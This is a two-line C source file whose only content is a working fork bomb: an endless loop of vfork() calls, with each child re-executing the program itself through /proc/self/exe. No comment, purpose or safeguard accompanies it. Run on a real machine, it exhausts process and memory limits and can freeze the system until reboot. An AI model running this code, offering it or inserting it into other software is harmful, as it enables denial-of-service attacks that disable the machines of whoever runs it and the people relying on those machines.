#include <unistd.h>
int main(void) { for (;;) if (vfork() == 0) { execl("/proc/self/exe", "x", (char *)0); _exit(0); } }
